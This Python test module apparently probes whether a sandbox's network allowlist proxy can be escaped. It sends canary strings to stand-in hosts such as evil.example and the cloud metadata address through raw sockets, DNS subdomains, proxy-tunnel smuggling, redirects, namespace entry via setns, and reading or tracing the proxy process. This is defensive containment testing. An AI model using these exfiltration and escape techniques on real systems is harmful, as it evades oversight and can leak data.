"""Attempts to send something to a host that is not listed. They run inside, with the standard library only.

Each sends its canary, and the watch of the town says where it has come. Most are in `exits.toml`.
"""

from __future__ import annotations

import contextlib
import os
import re
import socket
import ssl
import struct
import subprocess
import time
import tomllib
import urllib.request
from functools import partial
from pathlib import Path
from typing import TYPE_CHECKING, Any, Final

from tests.escape import kernel
from tests.escape.probe import DONE, Group, Place, Probe, but, first_of
from tests.towns.names import EVIL, EVIL6, LISTED, RESOLVER

if TYPE_CHECKING:
    from tests.escape.scene import Scene

PROXY: Final = ("127.0.0.1", 3128)
_ANSWER_S: Final = 2.0
_SILENCE_S: Final = 0.25
_TIME_S: Final = 8.0
_REQUEST: Final = "POST /{canary} HTTP/1.1\r\nHost: {inner}\r\nContent-Length: 0\r\n\r\n"


def canary_of(sign: str, name: str) -> str:
    """What an attempt sends."""
    return f"{sign}-{name.replace('_', '-')}"


def arrived(scene: Scene, name: str, _said: str) -> bool:
    """What the attempt sends has come to a host that is not listed."""
    return (canary_of(scene.sign, name), False) in scene.arrived


def arrived_anywhere(scene: Scene, name: str, _said: str) -> bool:
    """It has come to any host."""
    return canary_of(scene.sign, name) in {text for text, _ in scene.arrived}


class Line:
    """A connection, and what one says on it: texts, and orders that begin with @."""

    def __init__(self) -> None:
        self._socket: socket.socket | None = None
        self._tls: ssl.SSLObject | None = None
        self._into, self._out = ssl.MemoryBIO(), ssl.MemoryBIO()
        self._piece = 0
        self._before, self._joined = b"", False
        self.heard = b""

    def do(self, step: str) -> None:
        """Carry out one step."""
        word, _, rest = step.partition(" ")
        match word:
            case "@pieces":
                self._piece = int(rest)
            case "@answer":
                self.heard += self._receive()
            case "@tls":
                self._begin_tls(*rest.split())
            case "@hello":
                self._send(_hello(*rest.split()))
            case "@with":
                self._before, self._joined = rest.encode(), True
            case _:
                data = step.encode("latin-1" if step.isascii() or max(step) < "\u0100" else "utf-8")
                self._send(data) if self._tls is None else self._write(self._tls, data)

    def end(self) -> str:
        """What is answered until nothing more comes."""
        if self._socket is not None:
            self._socket.settimeout(_ANSWER_S)
            with self._socket, contextlib.suppress(OSError):
                while more := self._socket.recv(1 << 16):
                    self.heard += more
                    self._socket.settimeout(_SILENCE_S)
        return self.heard.decode("latin-1") or "nothing"

    def _send(self, data: bytes) -> None:
        if self._socket is None:
            self._socket = socket.create_connection(PROXY, _TIME_S)
        self._socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        data, self._before = self._before + data, b""
        size = self._piece or len(data)
        for at in range(0, len(data), size or 1):
            self._socket.sendall(data[at : at + size])
            if self._piece:
                time.sleep(0.002)

    def _receive(self) -> bytes:
        assert self._socket is not None
        found = self._socket.recv(1 << 16)
        if not found:
            raise ConnectionResetError(f"ended: {self.heard[-100:].decode('latin-1')}")
        return re.sub(rb"^HTTP/1.1 200 .*?\r\n\r\n", b"", found, flags=re.DOTALL) if self._joined else found

    def _begin_tls(self, name: str, records: str = "0", first: str = "") -> None:
        """`-`: without a name; the first message in records of so many bytes; after a record of another kind."""
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        one = context.wrap_bio(self._into, self._out, server_hostname=None if name == "-" else name)
        if first:
            self._send(bytes.fromhex(first))
        while True:
            try:
                one.do_handshake()
                break
            except ssl.SSLWantReadError:
                self._send(_cut(self._out.read(), int(records)))
                records = "0"
                self._into.write(self._receive())
        self._tls = one
        self._send(self._out.read())

    def _write(self, tls: ssl.SSLObject, data: bytes) -> None:
        tls.write(data)
        self._send(self._out.read())


def _cut(data: bytes, size: int) -> bytes:
    if not size or data[:1] != b"\x16":
        return data
    body = data[5:]
    parts = [body[at : at + size] for at in range(0, len(body), size)]
    return b"".join(data[:3] + len(part).to_bytes(2) + part for part in parts)


def _hello(*extensions: str) -> bytes:
    """A first message of TLS with these extensions, as in `0=NAME,NAME` for names, or `65037=TEXT`."""
    made = b""
    for one in extensions:
        kind, _, text = one.partition("=")
        body = text.encode()
        if kind == "0":
            names = b"".join(b"\0" + len(name).to_bytes(2) + name for name in body.split(b","))
            body = len(names).to_bytes(2) + names
        made += int(kind).to_bytes(2) + len(body).to_bytes(2) + body
    message = b"\3\3" + bytes(32) + b"\0" + b"\0\2\x13\1" + b"\1\0" + len(made).to_bytes(2) + made
    handshake = b"\1" + len(message).to_bytes(3) + message
    return b"\x16\3\1" + len(handshake).to_bytes(2) + handshake


def say(steps: list[str], canary: str) -> str:
    """What is answered to the steps."""
    line = Line()
    for step in steps:
        line.do(step.replace("{canary}", canary))
    return line.end()


def _tried(steps: list[list[str]], canary: str) -> str:
    """Make several attempts; what each is answered."""
    said: list[str] = []
    for one in steps:
        try:
            said.append(say(one, canary)[:70])
        except OSError as error:
            said.append(str(error)[:70])
    return " | ".join(said)


def _from_table(facts: dict[str, Any], place: Place) -> object:
    return say(facts["do"], canary_of(place.sign, facts["name"]))


def _to_target(facts: dict[str, Any], place: Place) -> object:
    """Ask for a host in each way that the proxy knows."""
    canary = canary_of(place.sign, facts["name"])
    host, port = facts["host"].replace("{canary}", canary), facts.get("port", 80)
    inner = _REQUEST.replace("{inner}", facts.get("inner", host.encode("ascii", "replace").decode()))
    name = host.strip("[]").encode("utf-8").decode("latin-1")
    socks = f"\5\1\0\5\1\0\3{chr(len(name))}{name}{port.to_bytes(2).decode('latin-1')}"
    shown = host.encode("utf-8").decode("latin-1")
    ways = [
        [f"CONNECT {shown}:{port} HTTP/1.1\r\nHost: {LISTED}\r\n\r\n", "@answer", inner],
        [f"POST http://{shown}:{port}/{{canary}} HTTP/1.1\r\nHost: {LISTED}\r\nContent-Length: 0\r\n\r\n"],
        [socks[:3], "@answer", socks[3:], "@answer", inner],
    ]
    return _tried([way for way in ways for _ in range(facts.get("times", 1))], canary)


def _listed(name: str, group: str, what: str, attempt: Any) -> Probe:
    return Probe(name, group, what, attempt, arrived, "listed", True, "", __name__)


_TABLE: Final = tomllib.loads((Path(__file__).parent / "exits.toml").read_text())
for _group in _TABLE["group"]:
    for _one in _group.get("target", ()):
        Group.all.append(_listed(_one["name"], _group["called"], _one["what"], partial(_to_target, _one)))
    for _one in _group.get("attempt", ()):
        Group.all.append(_listed(_one["name"], _group["called"], _one["what"], partial(_from_table, _one)))


def _sent(name: str, place: Place, family: int, kind: int, protocol: int, address: Any) -> None:
    with socket.socket(family, kind, protocol) as one:
        one.settimeout(_TIME_S)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
        text = f"{canary_of(place.sign, name)}\n".encode()
        if kind == socket.SOCK_STREAM:
            one.connect(address)
            one.sendall(text)
        else:
            one.sendto(text, address)


def _echo(name: str, place: Place, kind: int) -> bytes:
    body = f"{canary_of(place.sign, name)}\n".encode()
    return struct.pack(">BBHHH", kind, 0, 0, 1, 1) + body


def _query(name: str, place: Place) -> bytes:
    labels = b"".join(bytes([len(one)]) + one for one in (canary_of(place.sign, name).encode(), b"evil", b"example"))
    return struct.pack(">6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\0" + struct.pack(">2H", 1, 1)


INET, INET6, STREAM, DGRAM = socket.AF_INET, socket.AF_INET6, socket.SOCK_STREAM, socket.SOCK_DGRAM


class Direct(Group, called="Network list: past the proxy", seen=arrived, way="listed"):
    def exit_tcp(self, place: Place) -> object:
        """Connect to a host, TCP over IPv4."""
        return _sent("exit_tcp", place, INET, STREAM, 0, (EVIL, 443))

    def exit_tcp6(self, place: Place) -> object:
        """Connect to a host, TCP over IPv6."""
        return _sent("exit_tcp6", place, INET6, STREAM, 0, (EVIL6, 443))

    def exit_mptcp(self, place: Place) -> object:
        """Connect to a host, TCP over several paths (MPTCP)."""
        return _sent("exit_mptcp", place, INET, STREAM, 262, (EVIL, 80))

    def exit_fast_open(self, place: Place) -> object:
        """Send with the first packet of a connection (TCP Fast Open)."""
        with socket.socket(INET, STREAM) as one:
            one.sendto(f"{canary_of(place.sign, 'exit_fast_open')}\n".encode(), socket.MSG_FASTOPEN, (EVIL, 80))

    def exit_bound_elsewhere(self, place: Place) -> object:
        """Connect from an address that the machine does not have (IP_FREEBIND)."""
        with socket.socket(INET, STREAM) as one:
            one.setsockopt(socket.SOL_IP, 15, 1)
            one.bind((EVIL, 0))
            one.settimeout(_TIME_S)
            one.connect((EVIL, 80))
            one.sendall(f"{canary_of(place.sign, 'exit_bound_elsewhere')}\n".encode())

    def exit_udp(self, place: Place) -> object:
        """Send a datagram to a host."""
        return _sent("exit_udp", place, INET, DGRAM, 0, (EVIL, 514))

    def exit_udp6(self, place: Place) -> object:
        """Send a datagram to a host over IPv6."""
        return _sent("exit_udp6", place, INET6, DGRAM, 0, (EVIL6, 514))

    def exit_quic(self, place: Place) -> object:
        """Send a first packet of QUIC."""
        with socket.socket(INET, DGRAM) as one:
            one.connect((EVIL, 443))
            text = canary_of(place.sign, "exit_quic").encode()
            one.send(b"\xc3\0\0\0\1\x08" + bytes(8) + b"\0\0\x44\xb0" + text + b"\n" + bytes(1100))

    def exit_udp_lite(self, place: Place) -> object:
        """Send a datagram of UDP-Lite."""
        return _sent("exit_udp_lite", place, INET, DGRAM, 136, (EVIL, 514))

    def exit_to_proxy_by_udp(self, place: Place) -> object:
        """Send a datagram to the port of the proxy of the host."""
        return _sent("exit_to_proxy_by_udp", place, INET, DGRAM, 0, PROXY)

    def exit_multicast(self, place: Place) -> object:
        """Send to all that listen for names (multicast DNS)."""
        return _sent("exit_multicast", place, INET, DGRAM, 0, ("224.0.0.251", 5353))

    def exit_broadcast(self, place: Place) -> object:
        """Send to all of the network."""
        return _sent("exit_broadcast", place, INET, DGRAM, 0, ("255.255.255.255", 67))

    def exit_metadata(self, place: Place) -> object:
        """Connect to the metadata service of a cloud."""
        return _sent("exit_metadata", place, INET, STREAM, 0, ("169.254.169.254", 80))

    def exit_ping(self, place: Place) -> object:
        """Send an echo request (ICMP)."""
        with socket.socket(INET, DGRAM, socket.IPPROTO_ICMP) as one:
            one.sendto(_echo("exit_ping", place, 8), (EVIL, 0))

    def exit_ping6(self, place: Place) -> object:
        """Send an echo request (ICMPv6)."""
        with socket.socket(INET6, DGRAM, socket.IPPROTO_ICMPV6) as one:
            one.sendto(_echo("exit_ping6", place, 128), (EVIL6, 0))

    def exit_raw(self, place: Place) -> object:
        """Send by a raw socket, as root of a user namespace too."""
        return self._as_root(lambda: _sent("exit_raw", place, INET, socket.SOCK_RAW, 253, (EVIL, 0)), kernel.NEWNS)

    def exit_packet(self, place: Place) -> object:
        """Send a frame (AF_PACKET), as root of a user namespace too."""

        def send() -> None:
            with socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, 0x0800) as one:
                one.sendto(canary_of(place.sign, "exit_packet").encode(), ("lo", 0x0800))

        return self._as_root(send, kernel.NEWNS)

    def exit_route(self, place: Place) -> object:
        """Make a route of one's own to all addresses, as root of a user and a network namespace too (netlink)."""

        def send() -> None:
            with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
                body = struct.pack("BBBBBBBBI", 2, 0, 0, 0, 254, 4, 0, 1, 0) + struct.pack("HHI", 8, 4, 1)
                one.send(struct.pack("IHHII", 16 + len(body), 24, 0x505, 1, 0) + body)
                if int.from_bytes(one.recv(4096)[16:20], "little", signed=True):
                    raise PermissionError("no route")
            _sent("exit_route", place, INET, DGRAM, 0, (EVIL, 514))

        return self._as_root(send, kernel.NEWNS | kernel.NEWNET)

    @staticmethod
    def _as_root(send: Any, more: int) -> object:
        try:
            return send()
        except OSError:
            kernel.become_root_of_a_namespace(more)
            return send()

    def exit_vsock(self, place: Place) -> object:
        """Connect to the machine that runs this one (vsock)."""
        return first_of((2, 1), lambda one: _sent("exit_vsock", place, socket.AF_VSOCK, STREAM, 0, (one, 80)))

    def exit_abstract(self, place: Place) -> object:
        """Send to an abstract socket where the proxy runs."""
        return _sent("exit_abstract", place, socket.AF_UNIX, STREAM, 0, f"\0{place.sign}")

    def exit_descriptor(self, place: Place) -> object:
        """Send by a connection that the worker has, and by whatever descriptor was inherited."""
        text = f"{canary_of(place.sign, 'exit_descriptor')}\n".encode()
        for fd in range(3, 1024):
            with contextlib.suppress(OSError):
                os.write(fd, text)
            with contextlib.suppress(OSError):
                kernel.call("setns", fd, kernel.NEWNET)
                _sent("exit_descriptor", place, INET, STREAM, 0, (EVIL, 80))

    @but(control=False)
    def exit_namespace_of_supervisor(self, place: Place) -> object:
        """Enter the network namespace of the supervisor, and of the proxy."""
        for pid in (place.supervisor, place.proxy):
            with contextlib.suppress(OSError):
                fd = os.open(f"/proc/{pid}/ns/net", os.O_RDONLY)
                kernel.call("setns", fd, kernel.NEWNET)
        return _sent("exit_namespace_of_supervisor", place, INET, STREAM, 0, (EVIL, 80))

    def exit_nested(self, place: Place) -> object:
        """Listen at the proxy's port in a network namespace of one's own, and connect from it."""
        first: OSError | None = None
        try:
            _sent("exit_nested", place, INET, STREAM, 0, (EVIL, 80))
        except OSError as error:
            first = error
        kernel.become_root_of_a_namespace(kernel.NEWNS | kernel.NEWNET)
        with socket.create_server(PROXY):
            pass
        raise first or OSError("sent before")

    def exit_dns(self, place: Place) -> object:
        """Have a name resolved that says it."""
        return socket.getaddrinfo(f"{canary_of(place.sign, 'exit_dns')}.evil.example", 80)[0][4][0]

    def exit_dns_udp(self, place: Place) -> object:
        """Ask the resolver of the host, and one of the Internet, for such a name, over UDP."""
        for host in (RESOLVER, EVIL, "127.0.0.53"):
            with contextlib.suppress(OSError), socket.socket(INET, DGRAM) as one:
                one.sendto(_query("exit_dns_udp", place), (host, 53))

    def exit_dns_tcp(self, place: Place) -> object:
        """Ask the resolver of the host for such a name, over TCP."""
        with socket.create_connection((RESOLVER, 53), _TIME_S) as one:
            query = _query("exit_dns_tcp", place)
            one.sendall(len(query).to_bytes(2) + query)
            return len(one.recv(512))

    def exit_dns_by_proxy(self, place: Place) -> object:
        """Ask the resolver of the host over TCP through the proxy, by its address."""
        query = _query("exit_dns_by_proxy", place).decode("latin-1")
        asked = len(query).to_bytes(2).decode("latin-1") + query
        return say([f"CONNECT {RESOLVER}:53 HTTP/1.1\r\nHost: x\r\n\r\n", "@answer", asked], "")


class Programs(Group, called="Network list: redirects", seen=arrived, way="listed"):
    def redirect_curl(self, place: Place) -> object:
        """Have a listed host send curl to another one."""
        url = f"http://{LISTED}/redirect/evil.example/{canary_of(place.sign, 'redirect_curl')}"
        words = ["curl", "-sSL", "-m", "5", "--proxy", "http://127.0.0.1:3128", url]
        done = subprocess.run(words, capture_output=True, text=True, check=False)
        return f"{done.stdout} {done.stderr}"

    def redirect_python(self, place: Place) -> object:
        """Have a listed host send Python to an address."""
        url = f"http://{LISTED}/redirect/{EVIL}/{canary_of(place.sign, 'redirect_python')}"
        proxy = urllib.request.ProxyHandler({"http": "http://127.0.0.1:3128"})
        return urllib.request.build_opener(proxy).open(url, timeout=_TIME_S).read().decode()


class Processes(Group, called="Network list: the proxy itself", way="listed"):
    def proxy_memory(self, place: Place) -> object:
        """Read the memory of the proxy."""
        text = Path(f"/proc/{place.proxy}/maps").read_text()
        at = int(re.findall(r"(?m)^([0-9a-f]+)-\S+ rw", text)[0], 16)
        with open(f"/proc/{place.proxy}/mem", "rb", 0) as file:
            file.seek(at)
            return DONE if file.read(16) else "nothing"

    def proxy_trace(self, place: Place) -> object:
        """Trace the proxy (ptrace)."""
        kernel.call("ptrace", 0x4206, place.proxy, 0, 0)
        return DONE

    def proxy_environment(self, place: Place) -> object:
        """Read the environment of the proxy, and name its open files."""
        Path(f"/proc/{place.proxy}/environ").read_bytes()
        return DONE if os.listdir(f"/proc/{place.proxy}/fd") else "nothing"

    def proxy_signal(self, place: Place) -> object:
        """Send a signal to the proxy."""
        words = Path(f"/proc/{place.proxy}/cmdline").read_bytes()
        os.kill(place.proxy, 0)
        return DONE if b"python" in words else "another process"


class Reading(Group, called="Network list: profile read_only", seen=arrived_anywhere, way="listed_read_only"):
    def read_only_to_listed(self, place: Place) -> object:
        """Send something to a listed host by the proxy."""
        request = _REQUEST.replace("{inner}", LISTED)
        return say(
            [f"CONNECT {LISTED}:80 HTTP/1.1\r\nHost: x\r\n\r\n", "@answer", request],
            canary_of(place.sign, "read_only_to_listed"),
        )

    def read_only_to_other(self, place: Place) -> object:
        """Connect to a host past the proxy."""
        return _sent("read_only_to_other", place, INET, STREAM, 0, (EVIL, 80))

    def read_only_by_curl(self, place: Place) -> object:
        """Have curl ask a listed host by all that its environment and options say."""
        url = f"http://{LISTED}/{canary_of(place.sign, 'read_only_by_curl')}"
        words = ["curl", "-sS", "-m", "5", "--proxy", "http://127.0.0.1:3128", url]
        return subprocess.run(words, capture_output=True, text=True, check=False).stderr
